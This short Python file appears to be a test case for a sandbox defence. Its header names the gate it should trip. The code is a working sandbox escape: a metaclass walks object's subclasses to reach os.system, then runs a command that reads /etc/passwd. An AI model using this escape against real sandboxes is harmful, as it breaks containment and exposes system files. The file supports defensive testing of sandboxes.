# attack: a metaclass walks the subclasses to os.system while the class is built
# covers: metaclass, subclasses
# gate: banned_attribute __subclasses__
# ungated: ok
# layer: hidden_host_paths
# needs: hidden_host_paths
class Meta(type):
    def __new__(mcs, name, bases, namespace):
        cls = super().__new__(mcs, name, bases, namespace)
        for sub in type.__subclasses__(object):
            if sub.__name__ == "_wrap_close":
                cls.run = sub.__init__.__globals__["system"]
        return cls


class Exploit(metaclass=Meta):
    pass


print("system() returned", Exploit.run("head -1 /etc/passwd 2>&1"))
